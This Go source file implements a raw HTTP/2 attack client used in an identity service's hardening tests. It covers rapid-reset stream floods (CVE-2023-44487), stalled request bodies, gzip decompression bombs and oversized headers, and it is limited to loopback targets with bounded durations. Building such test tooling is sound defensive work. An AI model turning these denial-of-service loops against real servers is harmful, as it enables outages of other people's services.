// h2attack is the hostile caller of the hardening tests: it speaks raw HTTP/2
// (golang.org/x/net/http2's framer) to identityd, doing what no gRPC client
// library would do, and prints one JSON object describing what the server
// answered. Loopback targets only; every mode is bounded in time and count.
//
//	h2attack -target 127.0.0.1:PORT [-cert F -key F -ca F] -mode MODE [flags]
//
// Modes:
//
//	rapid-reset  HEADERS then RST_STREAM, in a loop (CVE-2023-44487)
//	stall        streams whose request body never completes
//	request      ordinary requests with a chosen body, headers, content-type
//	             or gzip compression (bombs, bad protobuf, huge metadata)
package main

import (
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

type headerList []string

func (h *headerList) String() string     { return strings.Join(*h, ",") }
func (h *headerList) Set(v string) error { *h = append(*h, v); return nil }

var (
	target      = flag.String("target", "", "HOST:PORT of identityd (loopback only)")
	certFile    = flag.String("cert", "", "client certificate (PEM); with -key and -ca: TLS")
	keyFile     = flag.String("key", "", "client key (PEM)")
	caFile      = flag.String("ca", "", "CA that signed the server certificate (PEM)")
	serverName  = flag.String("server_name", "localhost", "TLS server name")
	mode        = flag.String("mode", "", "rapid-reset | stall | request")
	conns       = flag.Int("conns", 1, "connections")
	duration    = flag.Duration("duration", 5*time.Second, "how long rapid-reset and stall go on")
	maxStreams  = flag.Int("max_streams", 1000000, "rapid-reset: streams per connection at most")
	streams     = flag.Int("streams", 100, "stall: streams per connection")
	declared    = flag.Int("declared_bytes", 65001, "stall: message length announced in the gRPC prefix")
	sent        = flag.Int("sent_bytes", 65000, "stall: message bytes actually sent")
	method      = flag.String("method", "/identity.v1.IdentityService/IssueEmailHash", "request path")
	bodyHex     = flag.String("body_hex", "", "request: the message bytes, hex")
	bombBytes   = flag.Int("bomb_bytes", 0, "request: send gzip(bomb_bytes zero bytes) as a compressed message")
	contentType = flag.String("content_type", "application/grpc", "request: content-type")
	headerBytes = flag.Int("header_bytes", 0, "request: add an x-pad header of this many bytes")
	count       = flag.Int("count", 1, "request: requests per connection")
	timeout     = flag.Duration("timeout", 20*time.Second, "request: how long to wait for all answers")
	headers     headerList
)

// conn is one HTTP/2 connection: a framer whose writes are serialised, the
// flow-control windows the server granted, and what the server sent back.
type conn struct {
	net.Conn
	fr           *http2.Framer
	wmu          sync.Mutex
	mu           sync.Mutex
	cond         *sync.Cond
	connWindow   int64
	streamWindow map[uint32]int64
	initWindow   int64
	closed       bool
	goAway       string
	statuses     map[uint32]string // stream -> "OK", "UNIMPLEMENTED", "RST_CANCEL", "HTTP_415" ...
	messages     map[uint32]string // stream -> grpc-message
	done         chan struct{}
}

func dial() (*conn, error) {
	var nc net.Conn
	var err error
	host, _, err := net.SplitHostPort(*target)
	if err != nil {
		return nil, err
	}
	if ip := net.ParseIP(host); host != "localhost" && (ip == nil || !ip.IsLoopback()) {
		return nil, fmt.Errorf("refusing non-loopback target %s", *target)
	}
	if *certFile != "" {
		cert, err := tls.LoadX509KeyPair(*certFile, *keyFile)
		if err != nil {
			return nil, err
		}
		pool := x509.NewCertPool()
		pem, err := os.ReadFile(*caFile)
		if err != nil {
			return nil, err
		}
		pool.AppendCertsFromPEM(pem)
		nc, err = tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", *target,
			&tls.Config{Certificates: []tls.Certificate{cert}, RootCAs: pool,
				ServerName: *serverName, NextProtos: []string{"h2"}})
		if err != nil {
			return nil, err
		}
	} else {
		nc, err = net.DialTimeout("tcp", *target, 5*time.Second)
		if err != nil {
			return nil, err
		}
	}
	if _, err := nc.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	c := &conn{Conn: nc, fr: http2.NewFramer(nc, nc), connWindow: 65535, initWindow: 65535,
		streamWindow: map[uint32]int64{}, statuses: map[uint32]string{},
		messages: map[uint32]string{}, done: make(chan struct{})}
	c.cond = sync.NewCond(&c.mu)
	c.fr.ReadMetaHeaders = hpack.NewDecoder(65536, nil)
	c.fr.MaxHeaderListSize = 16 << 20
	if err := c.fr.WriteSettings(); err != nil {
		return nil, err
	}
	// Our own receive window: large, so that answers never wait on us.
	if err := c.fr.WriteWindowUpdate(0, 1<<30); err != nil {
		return nil, err
	}
	go c.readLoop()
	return c, nil
}

func (c *conn) readLoop() {
	defer close(c.done)
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			c.mu.Lock()
			c.closed = true
			c.cond.Broadcast()
			c.mu.Unlock()
			return
		}
		c.mu.Lock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
					delta := int64(v) - c.initWindow
					c.initWindow = int64(v)
					for id := range c.streamWindow {
						c.streamWindow[id] += delta
					}
				}
				c.wmu.Lock()
				c.fr.WriteSettingsAck()
				c.wmu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.wmu.Lock()
				c.fr.WritePing(true, f.Data)
				c.wmu.Unlock()
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				c.connWindow += int64(f.Increment)
			} else {
				c.streamWindow[f.StreamID] += int64(f.Increment)
			}
		case *http2.GoAwayFrame:
			c.goAway = f.ErrCode.String()
		case *http2.RSTStreamFrame:
			if _, ok := c.statuses[f.StreamID]; !ok {
				c.statuses[f.StreamID] = "RST_" + f.ErrCode.String()
			}
		case *http2.MetaHeadersFrame:
			for _, hf := range f.Fields {
				switch hf.Name {
				case ":status":
					if hf.Value != "200" {
						c.statuses[f.StreamID] = "HTTP_" + hf.Value
					}
				case "grpc-status":
					c.statuses[f.StreamID] = grpcCodeName(hf.Value)
				case "grpc-message":
					c.messages[f.StreamID] = hf.Value
				}
			}
		}
		c.cond.Broadcast()
		c.mu.Unlock()
	}
}

var codeNames = []string{"OK", "CANCELLED", "UNKNOWN", "INVALID_ARGUMENT", "DEADLINE_EXCEEDED",
	"NOT_FOUND", "ALREADY_EXISTS", "PERMISSION_DENIED", "RESOURCE_EXHAUSTED",
	"FAILED_PRECONDITION", "ABORTED", "OUT_OF_RANGE", "UNIMPLEMENTED", "INTERNAL",
	"UNAVAILABLE", "DATA_LOSS", "UNAUTHENTICATED"}

func grpcCodeName(v string) string {
	var n int
	if _, err := fmt.Sscanf(v, "%d", &n); err == nil && n >= 0 && n < len(codeNames) {
		return codeNames[n]
	}
	return "grpc-status " + v
}

func (c *conn) writeHeaders(id uint32, extra [][2]string, endStream bool) error {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	scheme := "http"
	if *certFile != "" {
		scheme = "https"
	}
	for _, kv := range append([][2]string{{":method", "POST"}, {":scheme", scheme},
		{":path", *method}, {":authority", *target}, {"content-type", *contentType},
		{"te", "trailers"}}, extra...) {
		enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	block := buf.Bytes()
	c.mu.Lock()
	c.streamWindow[id] = c.initWindow
	c.mu.Unlock()
	c.wmu.Lock()
	defer c.wmu.Unlock()
	// Blocks larger than one frame go out as HEADERS + CONTINUATION.
	const chunk = 16384
	first := block
	if len(first) > chunk {
		first = block[:chunk]
	}
	if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first,
		EndStream: endStream, EndHeaders: len(block) <= chunk}); err != nil {
		return err
	}
	for rest := block[len(first):]; len(rest) > 0; {
		n := min(len(rest), chunk)
		if err := c.fr.WriteContinuation(id, n == len(rest), rest[:n]); err != nil {
			return err
		}
		rest = rest[n:]
	}
	return nil
}

// writeData sends `data` on stream `id` within the windows the server grants,
// waiting for WINDOW_UPDATEs until `deadline`.
func (c *conn) writeData(id uint32, data []byte, endStream bool, deadline time.Time) error {
	for len(data) > 0 || endStream {
		c.mu.Lock()
		for !c.closed && (c.connWindow <= 0 || c.streamWindow[id] <= 0) && len(data) > 0 {
			if time.Now().After(deadline) {
				c.mu.Unlock()
				return fmt.Errorf("flow-control window closed")
			}
			go func() { time.Sleep(50 * time.Millisecond); c.cond.Broadcast() }()
			c.cond.Wait()
		}
		if c.closed {
			c.mu.Unlock()
			return fmt.Errorf("connection closed")
		}
		n := int64(len(data))
		n = min(n, c.connWindow, c.streamWindow[id], 16384)
		c.connWindow -= n
		c.streamWindow[id] -= n
		c.mu.Unlock()
		last := endStream && int(n) == len(data)
		c.wmu.Lock()
		err := c.fr.WriteData(id, last, data[:n])
		c.wmu.Unlock()
		if err != nil {
			return err
		}
		data = data[n:]
		if last {
			return nil
		}
	}
	return nil
}

func grpcFrame(message []byte, compressed bool) []byte {
	out := make([]byte, 5, 5+len(message))
	if compressed {
		out[0] = 1
	}
	binary.BigEndian.PutUint32(out[1:], uint32(len(message)))
	return append(out, message...)
}

type result struct {
	Mode          string         `json:"mode"`
	Connections   int            `json:"connections"`
	DialErrors    int            `json:"dial_errors"`
	StreamsOpened int            `json:"streams_opened"`
	BytesSent     int64          `json:"bytes_sent"`
	Statuses      map[string]int `json:"statuses"`
	Messages      []string       `json:"messages"`
	GoAways       map[string]int `json:"goaways"`
	Closed        int            `json:"connections_closed_by_server"`
	Errors        []string       `json:"errors"`
}

func main() {
	flag.Var(&headers, "header", "request: extra header NAME=VALUE (repeatable)")
	flag.Parse()
	if *target == "" || *mode == "" {
		fmt.Fprintln(os.Stderr, "usage: h2attack -target HOST:PORT -mode rapid-reset|stall|request")
		os.Exit(2)
	}
	res := result{Mode: *mode, Statuses: map[string]int{}, GoAways: map[string]int{}}
	var rmu sync.Mutex
	var wg sync.WaitGroup
	var all []*conn
	for i := 0; i < *conns; i++ {
		c, err := dial()
		if err != nil {
			res.DialErrors++
			res.Errors = append(res.Errors, err.Error())
			continue
		}
		all = append(all, c)
		wg.Add(1)
		go func(c *conn) {
			defer wg.Done()
			opened, bytesSent, err := run(c)
			rmu.Lock()
			res.StreamsOpened += opened
			res.BytesSent += bytesSent
			if err != nil && len(res.Errors) < 10 {
				res.Errors = append(res.Errors, err.Error())
			}
			rmu.Unlock()
		}(c)
	}
	wg.Wait()
	res.Connections = len(all)
	seen := map[string]bool{}
	for _, c := range all {
		c.mu.Lock()
		for id, s := range c.statuses {
			res.Statuses[s]++
			if m := c.messages[id]; m != "" && !seen[m] && len(res.Messages) < 10 {
				seen[m] = true
				res.Messages = append(res.Messages, m)
			}
		}
		if c.goAway != "" {
			res.GoAways[c.goAway]++
		}
		if c.closed {
			res.Closed++
		}
		c.mu.Unlock()
		c.Close()
	}
	out, _ := json.Marshal(res)
	fmt.Println(string(out))
}

// run does the mode's work on one connection; returns streams opened and
// message bytes sent.
func run(c *conn) (int, int64, error) {
	switch *mode {
	case "rapid-reset":
		return rapidReset(c)
	case "stall":
		return stall(c)
	case "request":
		return request(c)
	}
	return 0, 0, fmt.Errorf("unknown -mode %q", *mode)
}

func rapidReset(c *conn) (int, int64, error) {
	end := time.Now().Add(*duration)
	id := uint32(1)
	n := 0
	for ; n < *maxStreams && time.Now().Before(end); n++ {
		c.mu.Lock()
		closed := c.closed
		c.mu.Unlock()
		if closed {
			return n, 0, nil
		}
		if err := c.writeHeaders(id, nil, false); err != nil {
			return n, 0, nil // the server closed the connection
		}
		c.wmu.Lock()
		err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		c.wmu.Unlock()
		if err != nil {
			return n, 0, nil
		}
		c.mu.Lock()
		delete(c.streamWindow, id)
		c.mu.Unlock()
		id += 2
	}
	return n, 0, nil
}

func stall(c *conn) (int, int64, error) {
	end := time.Now().Add(*duration)
	body := grpcFrame(make([]byte, *sent), false)
	binary.BigEndian.PutUint32(body[1:], uint32(*declared))
	var total int64
	n := 0
	for id := uint32(1); n < *streams; id += 2 {
		if err := c.writeHeaders(id, nil, false); err != nil {
			return n, total, err
		}
		n++
		if err := c.writeData(id, body, false, end); err != nil {
			break
		}
		total += int64(*sent)
	}
	// Hold the streams open until the end, answering pings.
	for time.Now().Before(end) {
		c.mu.Lock()
		closed := c.closed
		c.mu.Unlock()
		if closed {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	return n, total, nil
}

func request(c *conn) (int, int64, error) {
	message, err := hex.DecodeString(*bodyHex)
	if err != nil {
		return 0, 0, err
	}
	var extra [][2]string
	compressed := false
	if *bombBytes > 0 {
		var buf bytes.Buffer
		zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
		zw.Write(make([]byte, *bombBytes))
		zw.Close()
		message = buf.Bytes()
		compressed = true
		extra = append(extra, [2]string{"grpc-encoding", "gzip"})
	}
	for _, h := range headers {
		k, v, _ := strings.Cut(h, "=")
		extra = append(extra, [2]string{k, v})
	}
	if *headerBytes > 0 {
		extra = append(extra, [2]string{"x-pad", strings.Repeat("a", *headerBytes)})
	}
	deadline := time.Now().Add(*timeout)
	body := grpcFrame(message, compressed)
	var total int64
	ids := []uint32{}
	for i := 0; i < *count; i++ {
		id := uint32(2*i + 1)
		// At most -streams requests in flight per connection.
		for {
			c.mu.Lock()
			inFlight := 0
			for _, prev := range ids {
				if _, ok := c.statuses[prev]; !ok {
					inFlight++
				}
			}
			closed := c.closed
			c.mu.Unlock()
			if closed || inFlight < *streams || time.Now().After(deadline) {
				break
			}
			time.Sleep(time.Millisecond)
		}
		if err := c.writeHeaders(id, extra, false); err != nil {
			return i, total, err
		}
		ids = append(ids, id)
		if err := c.writeData(id, body, true, deadline); err != nil {
			return i + 1, total, err
		}
		total += int64(len(message))
	}
	// Wait for every answer (or the connection's end) until the deadline.
	c.mu.Lock()
	defer c.mu.Unlock()
	for !c.closed && time.Now().Before(deadline) {
		pending := 0
		for _, id := range ids {
			if _, ok := c.statuses[id]; !ok {
				pending++
			}
		}
		if pending == 0 {
			break
		}
		go func() { time.Sleep(50 * time.Millisecond); c.cond.Broadcast() }()
		c.cond.Wait()
	}
	for _, id := range ids {
		if _, ok := c.statuses[id]; !ok {
			c.statuses[id] = "NO_ANSWER"
		}
	}
	return len(ids), total, nil
}
